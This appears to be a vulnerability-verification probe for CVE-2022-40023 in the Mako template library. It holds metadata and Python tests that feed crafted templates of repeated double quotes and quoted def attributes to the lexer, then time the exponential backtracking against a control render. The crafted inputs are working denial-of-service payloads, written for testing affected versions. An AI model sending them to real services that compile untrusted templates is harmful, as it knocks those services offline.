# /// vertice-probe
# id = "PYSEC-2022-260"
# aliases = ["CVE-2022-40023", "GHSA-v973-fxgf-6xhp"]
# package = "mako"
# summary = """\
#   The pattern for the start of a template tag backtracks over quotes, so a crafted template takes exponential time \
#   to compile."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = ["mako.template.Template", "mako.lexer.Lexer", "mako.lookup.TemplateLookup"]
#
# [[affected]]
# package = "mako"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.2.2" }] }]
#
# [cases]
# attack = "a tag of double quotes takes exponential time"
# [cases.variants]
# lexer = "quoted attributes of a def tag, given to the Lexer"
# [cases.controls]
# render = "a template with a def, a call and quoted attributes is rendered"
#
# [test]
# vulnerable = "1.2.1"
# fixed = "1.2.2"
# ///
"""CVE-2022-40023: exponential backtracking over quotes in tags."""

import json
import sys
import time


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    least = []
    for size in (small, large):
        runs = []
        # Of what is quick there are more: else a busy neighbour may be there all the while.
        while len(runs) < 3 or (sum(runs) < 0.1 and len(runs) < 100):
            begin = time.process_time()
            answer = work(size)
            runs.append(time.process_time() - begin)
        least.append(min(runs))
    ratio = least[1] / max(least[0], 0.002)  # below 2 ms the clock's noise is larger than the growth
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        least[0] * 1000,
        least[1] * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def refuse(parse):
    from mako.exceptions import SyntaxException

    try:
        parse()
    except SyntaxException:
        return "SyntaxException"
    raise RuntimeError("the unfinished tag was accepted")


def attack():
    from mako.template import Template

    return judge(lambda size: refuse(lambda: Template("<%0" + '"' * size)), 26, 32, 4, "quotes")


def lexer():
    from mako.lexer import Lexer

    return judge(lambda size: refuse(lambda: Lexer("<%def name='" + "a' b='" * size).parse()), 16, 20, 4, "attributes")


def render():
    from mako.template import Template

    text = "<%def name=\"row(a, b='x')\">[${a}|${b}]</%def>${row(1)} <%block name='c'>c</%block>"
    got = Template(text).render().strip()
    return ("works" if got == "[1|x] c" else "broken"), got


CASES = {"attack": attack, "lexer": lexer, "render": render}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
